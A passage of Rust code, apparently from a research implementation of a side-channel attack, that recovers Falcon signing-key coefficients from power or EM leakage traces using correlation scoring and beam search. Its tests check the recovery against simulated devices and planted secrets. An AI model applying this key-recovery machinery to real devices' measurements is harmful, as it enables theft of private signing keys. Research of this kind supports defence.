        return Vec::new();
    }
    // A resident dataset lends its own targets as borrowed columns.
    let blocks: Vec<TargetBlock<'_>> = ds
        .targets()
        .iter()
        .map(|&t| ds.target_block(t).expect("a dataset holds its own targets"))
        .collect();
    let mut out: Vec<(CoefficientResult, f64)> = blocks
        .iter()
        .map(|block| {
            let r = recover_coefficient_block(block, cfg);
            (r, coefficient_confidence(block, r.bits))
        })
        .collect();
    let mut confs: Vec<f64> = out.iter().map(|(_, c)| *c).collect();
    confs.sort_by(f64::total_cmp);
    let median = confs[confs.len() / 2];
    // Robust spread estimate: correct recoveries cluster tightly at the
    // channel's SNR ceiling, so anything well below the cohort is
    // suspect.
    let mut devs: Vec<f64> = confs.iter().map(|c| (c - median).abs()).collect();
    devs.sort_by(f64::total_cmp);
    let mad = devs[devs.len() / 2];
    let cutoff = median - (5.0 * mad).max(0.01);
    let wide = AttackConfig {
        step_bits: cfg.step_bits.saturating_sub(2).max(4),
        beam_width: cfg.beam_width * 8,
    };
    for (i, block) in blocks.iter().enumerate() {
        if out[i].1 >= cutoff {
            continue;
        }
        let r = recover_coefficient_block(block, &wide);
        let conf = coefficient_confidence(block, r.bits);
        if conf > out[i].1 {
            out[i] = (r, conf);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acquire::Dataset;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn bench(noise: f64, seed: &[u8]) -> Device {
        let mut rng = Prng::from_seed(seed);
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        Device::new(kp.into_parts().0, chain, b"attack bench")
    }

    fn ground_truth(dev: &Device, target: usize) -> u64 {
        dev.signing_key().f_fft()[target].to_bits()
    }

    #[test]
    fn recovers_coefficient_from_noiseless_traces() {
        let mut dev = bench(0.0, b"attack key 1");
        let truth = ground_truth(&dev, 1);
        let mut mrng = Prng::from_seed(b"attack msgs");
        let ds = Dataset::collect(&mut dev, &[1], 48, &mut mrng);
        let cfg = AttackConfig::default();
        let r = recover_coefficient(&ds, 1, &cfg);
        assert_eq!(
            r.bits,
            truth,
            "recovered {:#018x}, truth {:#018x} (lo {:#x}/{:#x} hi {:#x} exp {:#x} sign {})",
            r.bits,
            truth,
            r.mant_lo.value,
            (falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52)) & 0x1FF_FFFF,
            r.mant_hi.value,
            r.exponent.value,
            r.sign.value,
        );
    }

    #[test]
    fn recovers_coefficient_under_noise() {
        let mut dev = bench(2.0, b"attack key 2");
        let truth = ground_truth(&dev, 3);
        let mut mrng = Prng::from_seed(b"attack msgs noisy");
        let ds = Dataset::collect(&mut dev, &[3], 600, &mut mrng);
        let cfg = AttackConfig::default();
        let r = recover_coefficient(&ds, 3, &cfg);
        assert_eq!(r.bits, truth, "recovered {:#018x}, truth {:#018x}", r.bits, truth);
        assert!(r.mant_lo.corr > r.mant_lo.runner_up);
    }

    /// Builds a synthetic dataset whose samples are the *exact* leakage
    /// model values for a planted secret — isolating the recovery logic
    /// from the device/acquisition plumbing.
    fn synthetic_dataset(secret: u64, knowns: &[u64]) -> Dataset {
        use crate::model::{step_words, KnownOperand};
        let traces = knowns.len();
        // One row per trace: two occurrences with different known
        // operands, then their 2×14 model samples.
        let rows: Vec<(Vec<u64>, Vec<f32>)> = (knowns.iter().enumerate())
            .map(|(i, &k)| {
                let k2 = knowns[(i + traces / 2) % traces].rotate_left(1) | 1 << 52;
                let words = [k, k2].map(|kb| step_words(secret, &KnownOperand::new(kb)));
                (vec![k, k2], words.iter().flatten().map(|w| w.count_ones() as f32).collect())
            })
            .collect();
        // Layout degree 8, target index 0.
        crate::source::scatter_rows(8, &[0], &rows).unwrap()
    }

    /// One planted-coefficient recovery case: exact-model samples for a
    /// random secret, random known operands.
    fn planted_case(mant: u64, exp: u64, sign: u64, seed: u64) {
        let secret = (sign << 63) | (exp << 52) | mant;
        // Plausible known operands: normal fprs with varied mantissas
        // and a narrow exponent band (like real FFT(c) values).
        let mut state = seed | 1;
        let mut next = || {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            state
        };
        let knowns: Vec<u64> = (0..128)
            .map(|_| {
                let m = next() & ((1u64 << 52) - 1);
                let e = 1030 + (next() % 8);
                let s = next() & (1 << 63);
                s | (e << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
        assert_eq!(r.bits, secret, "planted {:#018x}, recovered {:#018x}", secret, r.bits);
    }

    #[test]
    fn recovers_random_planted_coefficients() {
        // Regression (former property-test shrink): near-degenerate
        // mantissa with a low biased exponent.
        planted_case(3367164766440640, 794, 1, 3744802627543998926);
        // Deterministic random cases (splitmix64 stream).
        let mut st = 0x706C616E74u64;
        let mut next = || {
            st = st.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = st;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        for _ in 0..9 {
            let mant = next() & ((1u64 << 52) - 1);
            let exp = 1 + next() % 2046;
            let sign = next() & 1;
            let seed = next();
            planted_case(mant, exp, sign, seed);
        }
    }

    #[test]
    fn recovers_trailing_zero_mantissa() {
        // Regression: the all-zero low window has a constant hypothesis;
        // the beam must keep it alive (it once pruned such secrets).
        let secret = 0x4030_0000_0F00_0000u64; // many trailing zeros
        let knowns: Vec<u64> = (0..40)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
        assert_eq!(r.bits, secret, "recovered {:#018x}", r.bits);
    }

    #[test]
    fn recover_all_verified_on_a_dataset_without_targets_is_empty() {
        let empty = Dataset::from_stores(8, 0, vec![]).unwrap();
        assert!(recover_all_verified(&empty, &AttackConfig::default()).is_empty());
        let parts = Dataset::from_stores(8, 5, vec![]).unwrap();
        assert!(recover_all_verified(&parts, &AttackConfig::default()).is_empty());
    }

    /// Truth mantissa halves of a planted secret, as the attack splits
    /// them.
    fn truth_halves(secret: u64) -> (u64, u64) {
        let m = falcon_fpr::Fpr::from_bits(secret).mantissa_bits() | (1 << 52);
        (m & 0x1FF_FFFF, m >> 25)
    }

    #[test]
    fn monolithic_recovery_matches_incremental_on_windows() {
        // Windowed monolithic recovery (the same machinery as the
        // full-width paper mode, parameterised down so the test runs in
        // milliseconds) must land on the exact same half values as the
        // incremental beam.
        let secret = 0x4013_5A7E_29C4_D1B3u64;
        let knowns: Vec<u64> = (0..64)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let block = ds.target_block(0).unwrap();
        let (d_lo, c_hi) = truth_halves(secret);
        let width = 10u32;
        let lo = recover_mantissa_half_monolithic(
            &block,
            SecretHalf::Low,
            Some(c_hi),
            width,
            d_lo >> width,
            32,
        );
        assert_eq!(lo.value, d_lo, "monolithic low {:#x}, truth {:#x}", lo.value, d_lo);
        assert!(lo.corr > lo.runner_up);
        let hi = recover_mantissa_half_monolithic(
            &block,
            SecretHalf::High,
            Some(d_lo),
            width,
            c_hi >> width,
            32,
        );
        assert_eq!(hi.value, c_hi, "monolithic high {:#x}, truth {:#x}", hi.value, c_hi);
    }

    #[test]
    fn monolithic_keeps_all_zero_window_alive() {
        // The all-zero window is unfalsifiable by the extend score; the
        // monolithic path must protect it just like the beam does.
        let secret = (1027u64 << 52) | (0x7F << 30); // low 25 mantissa bits zero
        let knowns: Vec<u64> = (0..40)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x2545_F491_4F6C_DD1D) & ((1u64 << 52) - 1);
                (1030u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        assert_eq!(d_lo, 0, "test premise: degenerate low half");
        let width = 8u32;
        let block = ds.target_block(0).unwrap();
        let lo =
            recover_mantissa_half_monolithic(&block, SecretHalf::Low, Some(c_hi), width, 0, 16);
        assert_eq!(lo.value, 0, "monolithic low {:#x}", lo.value);
    }

    #[test]
    #[ignore = "paper-scale 2^25 enumeration: minutes on one core; run explicitly"]
    fn monolithic_full_width_low_half() {
        // The real thing: the full 2^25 one-shot enumeration of the low
        // mantissa half.
        let secret = 0x4013_5A7E_29C4_D1B3u64;
        let knowns: Vec<u64> = (0..16)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        let block = ds.target_block(0).unwrap();
        let lo = recover_mantissa_half_monolithic(&block, SecretHalf::Low, Some(c_hi), 25, 0, 64);
        assert_eq!(lo.value, d_lo, "monolithic low {:#x}, truth {:#x}", lo.value, d_lo);
    }

    /// The sign/exponent scorer as it was before the exponent and sign
    /// tiles were shared: all three columns built and folded afresh per
    /// candidate. Kept only as this test's reference.
    fn sign_exponent_per_candidate(
        block: &TargetBlock<'_>,
        c_hi: u64,
        d_lo: u64,
    ) -> (ComponentResult, ComponentResult) {
        let cols = SignExpColumns::new(block, c_hi, d_lo);
        let [s_load, s_exp, s_sign] = &cols.samples;
        let [load_sums, exp_sums, sign_sums] = &cols.sums;
        let mut scratch = Vec::new();
        let scored: Vec<(u32, u32, f64)> = (0u32..2)
            .flat_map(|sign| (1u32..2047).map(move |ef| (sign, ef)))
            .map(|(sign, ef)| {
                let mut sums = PearsonSums::default();
                cols.load_hyps(&mut scratch, sign, ef);
                sums.push_column(&scratch, s_load, load_sums);
                cols.exp_hyps(&mut scratch, ef);
                sums.push_column(&scratch, s_exp, exp_sums);
                cols.sign_hyps(&mut scratch, sign);
                sums.push_column(&scratch, s_sign, sign_sums);
                (sign, ef, sums.corr())
            })
            .collect();
        sign_exponent_winner(scored.into_iter(), c_hi, d_lo)
    }

    #[test]
    fn shared_sign_exponent_tiles_match_the_per_candidate_scorer() {
        let bits = |r: ComponentResult| (r.value, r.corr.to_bits(), r.runner_up.to_bits());
        let mut dev = bench(2.0, b"sign exp tiles");
        let truth = ground_truth(&dev, 2);
        let (d_lo, c_hi) = truth_halves(truth);
        let mut mrng = Prng::from_seed(b"sign exp tile msgs");
        // Trace counts of every residue mod 4, so the column tails run.
        for traces in [1usize, 2, 3, 4, 5, 6, 7, 41, 130] {
            let ds = Dataset::collect(&mut dev, &[2], traces, &mut mrng);
            let block = ds.target_block(2).unwrap();
            // The true halves and a wrong high half.
            for (c_hi, d_lo) in [(c_hi, d_lo), (c_hi ^ 0x40_0010, d_lo)] {
                let (sign, exp) = recover_sign_exponent(&block, c_hi, d_lo);
                let (ref_sign, ref_exp) = sign_exponent_per_candidate(&block, c_hi, d_lo);
                assert_eq!(bits(sign), bits(ref_sign), "traces={traces} c_hi={c_hi:#x}");
                assert_eq!(bits(exp), bits(ref_exp), "traces={traces} c_hi={c_hi:#x}");
            }
        }
    }

    /// The beam rank as two full stable sorts, the form `rank_level`
    /// replaced: kept only as this test's reference.
    fn rank_by_stable_sorts(cands: &[u64], scores: &[(f64, f64)], keep: usize) -> Vec<u64> {
        let mut hvars: Vec<f64> = scores.iter().map(|&(_, v)| v).collect();
        hvars.sort_by(f64::total_cmp);
        let median_hvar = hvars[hvars.len() / 2];
        let mut scored: Vec<(u64, f64, f64)> =
            cands.iter().zip(scores).map(|(&c, &(r, v))| (c, r, v)).collect();
        scored.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(core::cmp::Ordering::Equal));
        let mut handicapped: Vec<(u64, f64)> = scored
            .iter()
            .skip(keep)
            .filter(|&&(_, _, v)| v < 0.5 * median_hvar)
            .map(|&(c, _, v)| (c, v))
            .collect();
        handicapped.sort_by(|a, b| a.1.total_cmp(&b.1));
        let protected = handicapped.into_iter().map(|(c, _)| c).take(keep);
        scored.into_iter().take(keep).map(|(c, _, _)| c).chain(protected).collect()
    }

    #[test]
    fn selection_rank_matches_the_stable_sorts() {
        let mut state = 0x005E_1EC7_u64;
        let mut next = move |m: u64| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state % m
        };
        // Few distinct correlations (long runs of ties, +0.0 beside
        // -0.0) and few distinct variances (ties, zeros), in levels
        // below, at and above `keep`.
        let corrs = [0.0, -0.0, 0.25, -0.25, 0.5, 1.0, -1.0, 1e-300];
        let hvars = [0.0, 0.0, 1.0, 2.0, 2.0, 3.0, 8.0, -0.0];
        for keep in [1usize, 3, 8, 16] {
            for len in [1usize, 2, keep - 1, keep, keep + 1, 2 * keep, 5 * keep + 3, 300] {
                if len == 0 {
                    continue;
                }
                for _ in 0..20 {
                    // Candidate values in no particular order, as a beam
                    // level lists them.
                    let cands: Vec<u64> =
                        (0..len as u64).map(|i| i.wrapping_mul(0x9E37) ^ 0x55).collect();
                    let scores: Vec<(f64, f64)> = (0..len)
                        .map(|_| (corrs[next(8) as usize], hvars[next(8) as usize]))
                        .collect();
                    assert_eq!(
                        rank_level(&cands, &scores, keep),
                        rank_by_stable_sorts(&cands, &scores, keep),
                        "keep={keep} len={len} scores={scores:?}"
                    );
                }
            }
        }
        // A beam-sized level of distinct correlations, in random order and
        // in rising and falling order (the running top `keep` then turns
        // over on every candidate, or never).
        let cands: Vec<u64> = (0..4096u64).map(|i| i.wrapping_mul(0x9E37) ^ 0x55).collect();
        let random: Vec<(f64, f64)> =
            (0..4096).map(|_| (next(1 << 20) as f64 / 1e6 - 0.5, next(64) as f64)).collect();
        let rising: Vec<(f64, f64)> =
            (0..4096).map(|i| (i as f64 / 4096.0, [0.0, 5.0, 9.0][i % 3])).collect();
        let falling: Vec<(f64, f64)> = rising.iter().rev().copied().collect();
        for scores in [random, rising, falling] {
            assert_eq!(rank_level(&cands, &scores, 64), rank_by_stable_sorts(&cands, &scores, 64));
        }
    }
}
